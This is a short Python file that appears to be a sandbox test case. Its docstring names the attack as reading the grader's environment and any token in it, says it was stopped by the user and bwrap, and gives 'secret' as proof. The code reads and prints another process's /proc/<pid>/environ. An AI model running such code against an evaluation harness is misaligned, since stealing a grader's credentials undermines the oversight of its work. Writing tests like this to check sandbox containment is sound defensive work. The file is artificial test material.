"""Attack: read the grader's environment, with whatever token is in it
Stopped by: user, bwrap
Proof: secret
"""

from prey import decoy

with open(f"/proc/{decoy()}/environ", "rb") as file:
    print(file.read())
